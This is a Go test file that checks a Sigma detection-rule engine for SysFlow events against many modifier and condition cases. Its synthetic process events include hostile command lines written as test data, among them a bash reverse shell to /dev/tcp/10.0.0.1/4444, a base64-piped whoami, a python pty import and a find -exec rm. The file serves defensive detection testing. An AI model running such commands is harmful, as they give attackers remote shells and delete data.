package policies_test

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"

	"github.com/sfconnector/sfconnector/policies"
	"github.com/sfconnector/sfconnector/policies/policytest"
	"github.com/sfconnector/sfconnector/sysflow"
)

// sev is what the Sigma expectations read of an event, taken from the
// records directly (not through the field registry or the engine).
type sev struct {
	ev                    *sysflow.Event
	exec                  bool
	exe, args, pexe, user string
	pid, ppid             int64
	dip                   string // only on synthetic network events, as written
	label                 string // synthetic events: what they were built to contain
}

func (s sev) cmd() string {
	if s.ev.Proc == nil {
		return ""
	}
	return s.exe + " " + s.args
}

func (s sev) lcmd() string { return strings.ToLower(s.cmd()) }
func (s sev) lexe() string { return strings.ToLower(s.exe) }

func readSev(ev *sysflow.Event) sev {
	s := sev{ev: ev, exec: ev.Kind == sysflow.KindProcessEvent && ev.OpFlags&sysflow.OpExec != 0, pid: ev.ProcOID.Hpid}
	if ev.Proc != nil {
		s.exe, s.args, s.user = ev.Proc.Exe, strings.TrimSpace(ev.Proc.ExeArgs), ev.Proc.UserName
	}
	if ev.Parent != nil {
		s.pexe = ev.Parent.Exe
	}
	if ev.ParentOID != nil {
		s.ppid = ev.ParentOID.Hpid
	}
	if ev.Kind == sysflow.KindNetworkFlow || ev.Kind == sysflow.KindNetworkEvent {
		// SysFlow stores addresses little-end first
		ip := uint32(ev.DIP)
		s.dip = fmt.Sprintf("%d.%d.%d.%d", ip&0xff, ip>>8&0xff, ip>>16&0xff, ip>>24)
	}
	return s
}

// syntheticSev builds process executions with the contents the modifiers
// need (base64 text, option dashes, literal wildcard characters) that the
// traces lack.
func syntheticSev(t *testing.T) []sev {
	t.Helper()
	type spec struct{ exe, args, pexe, user, label string }
	b64 := base64.StdEncoding.EncodeToString
	specs := []spec{
		{"/bin/bash", "-c echo " + b64([]byte("whoami")) + " | base64 -d", "/usr/sbin/sshd", "root", ""},
		{"/bin/sh", "-c " + b64([]byte("run /bin/sh now")), "/bin/bash", "alice", "b64off"},
		{"/bin/sh", "-c " + b64([]byte("x/bin/sh")), "/bin/bash", "alice", "b64off"},
		{"/bin/sh", "-c " + b64([]byte("xy/bin/sh!")), "/bin/bash", "alice", "b64off"},
		{"/bin/sh", "-c " + b64([]byte("/bin/bash")), "/bin/bash", "alice", ""},
		{"/usr/bin/find", ". -exec rm {} ;", "/bin/bash", "bob", ""},
		{"/usr/bin/find", ". /exec rm", "/bin/bash", "bob", ""},
		{"/usr/bin/find", ". \u2013exec rm", "/bin/bash", "bob", ""},
		{"/usr/bin/find", ". +exec rm", "/bin/bash", "bob", ""},
		{"/tmp/a*b", "x?y c:\\dir\\", "", "", ""},
		{"/tmp/aXb", "xzy c:\\dir", "/tmp/aXb", "", ""},
		{"/tmp/Bash", "-i", "/usr/bin/Java", "ROOT", ""},
		{"/USR/BIN/PYTHON", "-c import pty", "/usr/bin/java", "root", ""},
		{"/usr/bin/python3", "-c print(1)", "/bin/bash", "carol", ""},
		{"/bin/bash", "-i >& /dev/tcp/10.0.0.1/4444 0>&1", "/usr/bin/python", "www-data", ""},
	}
	var out []sev
	for i, s := range specs {
		v := policytest.Values{"sf.type": "PE", "sf.opflags": "EXEC", "sf.proc.exe": s.exe, "sf.proc.args": s.args, "sf.proc.pid": 5000 + i*300}
		if s.pexe != "" {
			v["sf.pproc.exe"] = s.pexe
			v["sf.pproc.pid"] = 4000 + i
		}
		if s.user != "" {
			v["sf.proc.user"] = s.user
		}
		ev, err := policytest.NewEvent(v)
		if err != nil {
			t.Fatalf("synthetic event %d: %v", i, err)
		}
		x := readSev(ev)
		x.label = s.label
		out = append(out, x)
	}
	for _, ip := range []string{"10.1.2.3", "192.168.7.7", "172.16.0.1", "8.8.8.8"} {
		ev, err := policytest.NewEvent(policytest.Values{"sf.type": "NF", "sf.opflags": "CONNECT", "sf.proc.exe": "/usr/bin/curl", "sf.net.dip": ip, "sf.net.dport": 443})
		if err != nil {
			t.Fatal(err)
		}
		x := readSev(ev)
		if x.dip != ip {
			t.Fatalf("synthetic network event: address %s read back as %s", ip, x.dip)
		}
		out = append(out, x)
	}
	return out
}

// sigmaCase is a Sigma rule and the plain Go reading of when it matches.
type sigmaCase struct {
	name     string
	category string // default process_creation
	det      string // the detection, indented by four spaces
	want     func(sev) bool
}

func (c sigmaCase) doc() string {
	cat := c.category
	if cat == "" {
		cat = "process_creation"
	}
	return fmt.Sprintf("title: %s\nid: 00000000-0000-0000-0000-%012d\nstatus: test\nlevel: high\nlogsource:\n    product: linux\n    category: %s\ndetection:\n%s", c.name, len(c.name), cat, c.det)
}

func sigmaCases() []sigmaCase {
	exec := func(f func(sev) bool) func(sev) bool { return func(s sev) bool { return s.exec && f(s) } }
	shells := func(s sev) bool { return strings.HasSuffix(s.lexe(), "/bash") || strings.HasSuffix(s.lexe(), "/sh") }
	rx := regexp.MustCompile(`python[0-9.]* -c`)
	rxi := regexp.MustCompile(`(?i)PYTHON[0-9.]* -c`)
	return []sigmaCase{
		{name: "equality ignores case", det: "    sel:\n        Image: '/USR/BIN/PYTHON'\n    condition: sel\n",
			want: exec(func(s sev) bool { return strings.EqualFold(s.exe, "/usr/bin/python") })},
		{name: "list is any", det: "    sel:\n        Image:\n            - /bin/bash\n            - /usr/bin/FIND\n    condition: sel\n",
			want: exec(func(s sev) bool { return s.lexe() == "/bin/bash" || s.lexe() == "/usr/bin/find" })},
		{name: "contains", det: "    sel:\n        CommandLine|contains:\n            - 'python'\n            - 'BASE64'\n    condition: sel\n",
			want: exec(func(s sev) bool { return strings.Contains(s.lcmd(), "python") || strings.Contains(s.lcmd(), "base64") })},
		{name: "contains all", det: "    sel:\n        CommandLine|contains|all:\n            - '-c'\n            - 'IMPORT'\n    condition: sel\n",
			want: exec(func(s sev) bool { return strings.Contains(s.lcmd(), "-c") && strings.Contains(s.lcmd(), "import") })},
		{name: "startswith", det: "    sel:\n        Image|startswith: '/usr/'\n    condition: sel\n",
			want: exec(func(s sev) bool { return strings.HasPrefix(s.lexe(), "/usr/") })},
		{name: "endswith", det: "    sel:\n        Image|endswith:\n            - '/bash'\n            - '/sh'\n    condition: sel\n",
			want: exec(shells)},
		{name: "star wildcard", det: "    sel:\n        Image: '/usr/*/py*'\n    condition: sel\n",
			want: exec(func(s sev) bool {
				e := s.lexe()
				if !strings.HasPrefix(e, "/usr/") {
					return false
				}
				i := strings.LastIndex(e, "/py")
				return i >= len("/usr/")
			})},
		{name: "question wildcard", det: "    sel:\n        Image: '/bin/?ash'\n    condition: sel\n",
			want: exec(func(s sev) bool {
				e := []rune(s.lexe())
				return len(e) == 9 && string(e[:5]) == "/bin/" && string(e[6:]) == "ash"
			})},
		{name: "escaped wildcards", det: "    sel:\n        Image: '/tmp/a\\*b'\n        CommandLine|contains: 'x\\?y'\n    condition: sel\n",
			want: exec(func(s sev) bool { return s.lexe() == "/tmp/a*b" && strings.Contains(s.lcmd(), "x?y") })},
		{name: "plain backslash", det: "    sel:\n        CommandLine|endswith: 'c:\\dir\\'\n    condition: sel\n",
			want: exec(func(s sev) bool { return strings.HasSuffix(s.lcmd(), `c:\dir\`) })},
		{name: "escaped backslash then wildcard", det: "    sel:\n        CommandLine: '*dir\\\\*'\n    condition: sel\n",
			want: exec(func(s sev) bool { return strings.Contains(s.lcmd(), `dir\`) })},
		{name: "null", det: "    sel:\n        ParentImage: null\n    condition: sel\n",
			want: exec(func(s sev) bool { return s.pexe == "" })},
		{name: "null in a list", det: "    sel:\n        User:\n            - null\n            - alice\n    condition: sel\n",
			want: exec(func(s sev) bool { return s.user == "" || strings.EqualFold(s.user, "alice") })},
		{name: "re", det: "    sel:\n        CommandLine|re: 'python[0-9.]* -c'\n    condition: sel\n",
			want: exec(func(s sev) bool { return rx.MatchString(s.cmd()) })},
		{name: "re i", det: "    sel:\n        CommandLine|re|i: 'PYTHON[0-9.]* -c'\n    condition: sel\n",
			want: exec(func(s sev) bool { return rxi.MatchString(s.cmd()) })},
		{name: "cidr", category: "network_connection", det: "    sel:\n        DestinationIp|cidr:\n            - '10.0.0.0/8'\n            - '192.168.0.0/16'\n    condition: sel\n",
			want: func(s sev) bool {
				return s.ev.Kind == sysflow.KindNetworkFlow && s.dip != "" && (strings.HasPrefix(s.dip, "10.") || strings.HasPrefix(s.dip, "192.168."))
			}},
		{name: "base64", det: "    sel:\n        CommandLine|base64|contains: 'whoami'\n    condition: sel\n",
			// "whoami" encodes to d2hvYW1p (RFC 4648 by hand)
			want: exec(func(s sev) bool { return strings.Contains(s.cmd(), "d2hvYW1p") })},
		{name: "base64offset", det: "    sel:\n        CommandLine|base64offset|contains: '/bin/sh'\n    condition: sel\n",
			want: exec(func(s sev) bool { return s.label == "b64off" })},
		{name: "windash", det: "    sel:\n        CommandLine|windash|contains: ' -exec'\n    condition: sel\n",
			want: exec(func(s sev) bool {
				for _, d := range []string{"-", "/", "\u2013", "\u2014", "\u2015"} {
					if strings.Contains(s.lcmd(), " "+d+"exec") {
						return true
					}
				}
				return false
			})},
		{name: "exists", det: "    sel:\n        ParentImage|exists: true\n    condition: sel\n",
			want: exec(func(s sev) bool { return s.pexe != "" })},
		{name: "exists false", det: "    sel:\n        User|exists: false\n    condition: sel\n",
			want: exec(func(s sev) bool { return s.user == "" })},
		{name: "cased", det: "    sel:\n        Image|cased|endswith: '/Bash'\n    condition: sel\n",
			want: exec(func(s sev) bool { return strings.HasSuffix(s.exe, "/Bash") })},
		{name: "cased equality", det: "    sel:\n        User|cased: ROOT\n    condition: sel\n",
			want: exec(func(s sev) bool { return s.user == "ROOT" })},
		{name: "gt", det: "    sel:\n        ProcessId|gt: 6000\n    condition: sel\n", want: exec(func(s sev) bool { return s.pid > 6000 })},
		{name: "gte", det: "    sel:\n        ProcessId|gte: 6200\n    condition: sel\n", want: exec(func(s sev) bool { return s.pid >= 6200 })},
		{name: "lt", det: "    sel:\n        ProcessId|lt: 5300\n    condition: sel\n", want: exec(func(s sev) bool { return s.pid < 5300 })},
		{name: "lte", det: "    sel:\n        ParentProcessId|lte: 4005\n    condition: sel\n", want: exec(func(s sev) bool { return s.ppid <= 4005 })},
		{name: "fieldref", det: "    sel:\n        Image|fieldref: ParentImage\n    condition: sel\n",
			want: exec(func(s sev) bool { return strings.EqualFold(s.exe, s.pexe) })},
		{name: "fieldref endswith", det: "    sel:\n        ParentImage|fieldref|endswith: Image\n    condition: sel\n",
			want: exec(func(s sev) bool { return strings.HasSuffix(strings.ToLower(s.pexe), s.lexe()) })},
		{name: "map is and", det: "    sel:\n        Image|endswith: '/bash'\n        ParentImage|endswith: '/python'\n    condition: sel\n",
			want: exec(func(s sev) bool {
				return strings.HasSuffix(s.lexe(), "/bash") && strings.HasSuffix(strings.ToLower(s.pexe), "/python")
			})},
		{name: "list of maps is or", det: "    sel:\n        - Image|endswith: '/find'\n        - User: root\n    condition: sel\n",
			want: exec(func(s sev) bool { return strings.HasSuffix(s.lexe(), "/find") || strings.EqualFold(s.user, "root") })},
		// conditions
		{name: "and not", det: "    a:\n        Image|endswith: '/bash'\n    b:\n        CommandLine|contains: ' -i'\n    condition: a and not b\n",
			want: exec(func(s sev) bool { return strings.HasSuffix(s.lexe(), "/bash") && !strings.Contains(s.lcmd(), " -i") })},
		{name: "or", det: "    a:\n        Image|endswith: '/find'\n    b:\n        User: root\n    condition: a or b\n",
			want: exec(func(s sev) bool { return strings.HasSuffix(s.lexe(), "/find") || strings.EqualFold(s.user, "root") })},
		{name: "not of a parenthesis", det: "    a:\n        Image|endswith: '/bash'\n    b:\n        Image|endswith: '/sh'\n    condition: not (a or b)\n",
			want: exec(func(s sev) bool { return !shells(s) })},
		{name: "precedence", det: "    a:\n        Image|endswith: '/find'\n    b:\n        User: root\n    c:\n        ParentImage|endswith: '/bash'\n    condition: a or b and c\n",
			want: exec(func(s sev) bool {
				return strings.HasSuffix(s.lexe(), "/find") || strings.EqualFold(s.user, "root") && strings.HasSuffix(strings.ToLower(s.pexe), "/bash")
			})},
		{name: "parentheses", det: "    a:\n        Image|endswith: '/find'\n    b:\n        User: root\n    c:\n        ParentImage|endswith: '/bash'\n    condition: (a or b) and c\n",
			want: exec(func(s sev) bool {
				return (strings.HasSuffix(s.lexe(), "/find") || strings.EqualFold(s.user, "root")) && strings.HasSuffix(strings.ToLower(s.pexe), "/bash")
			})},
		{name: "1 of pattern", det: "    sel_a:\n        Image|endswith: '/find'\n    sel_b:\n        User: alice\n    other:\n        User: bob\n    condition: 1 of sel_*\n",
			want: exec(func(s sev) bool { return strings.HasSuffix(s.lexe(), "/find") || strings.EqualFold(s.user, "alice") })},
		{name: "all of pattern", det: "    sel_a:\n        Image|endswith: '/sh'\n    sel_b:\n        User: alice\n    other:\n        User: bob\n    condition: all of sel_*\n",
			want: exec(func(s sev) bool { return strings.HasSuffix(s.lexe(), "/sh") && strings.EqualFold(s.user, "alice") })},
		{name: "1 of them", det: "    x:\n        Image|endswith: '/find'\n    y:\n        User: alice\n    _z:\n        User: root\n    condition: 1 of them\n",
			want: exec(func(s sev) bool { return strings.HasSuffix(s.lexe(), "/find") || strings.EqualFold(s.user, "alice") })},
		{name: "all of them", det: "    x:\n        Image|endswith: '/sh'\n    y:\n        CommandLine|contains: '-c'\n    condition: all of them\n",
			want: exec(func(s sev) bool { return strings.HasSuffix(s.lexe(), "/sh") && strings.Contains(s.lcmd(), "-c") })},
		{name: "list of conditions", det: "    x:\n        Image|endswith: '/find'\n    y:\n        User: alice\n    condition:\n        - x\n        - y\n",
			want: exec(func(s sev) bool { return strings.HasSuffix(s.lexe(), "/find") || strings.EqualFold(s.user, "alice") })},
	}
}

// TestSigmaModifiersAndConditions loads one Sigma rule per modifier and per
// condition form and checks, on every record of every trace and on
// synthetic executions, that each rule matches exactly where the plain Go
// reading of its detection says.
func TestSigmaModifiersAndConditions(t *testing.T) {
	cases := sigmaCases()
	dir := t.TempDir()
	byName := map[string]sigmaCase{}
	for i, c := range cases {
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("r%02d.yml", i)), []byte(c.doc()), 0o644); err != nil {
			t.Fatal(err)
		}
		byName[c.name] = c
	}
	set, diags, err := policies.Load([]string{dir}, policies.Options{Strict: true})
	if err != nil {
		t.Fatalf("%v", err)
	}
	if len(diags) != 0 || len(set.Rules()) != len(cases) {
		t.Fatalf("%d rules, %d expected; diagnostics %v", len(set.Rules()), len(cases), diags)
	}
	var evs []sev
	traces := allTraceEvents(t)
	var names []string
	for n := range traces {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		for _, ev := range traces[n] {
			evs = append(evs, readSev(ev))
		}
	}
	evs = append(evs, syntheticSev(t)...)
	hits := map[string]int{}
	misses := map[string]int{}
	for _, s := range evs {
		got := map[string]bool{}
		for _, m := range set.Match(s.ev, nil) {
			got[m.Rule] = true
		}
		for name, c := range byName {
			want := c.want(s)
			if got[name] != want {
				t.Fatalf("rule %q on %s (exe %q, cmdline %q, parent %q, user %q, pid %d, ppid %d): matched %v, expected %v",
					name, s.ev.Kind.TypeName(), s.exe, s.cmd(), s.pexe, s.user, s.pid, s.ppid, got[name], want)
			}
			if want {
				hits[name]++
			} else {
				misses[name]++
			}
		}
	}
	// Every case must both match and not match somewhere, or it proves
	// nothing.
	for name := range byName {
		if hits[name] == 0 || misses[name] == 0 {
			t.Errorf("rule %q matched %d and missed %d records: the events do not exercise it", name, hits[name], misses[name])
		}
	}
}
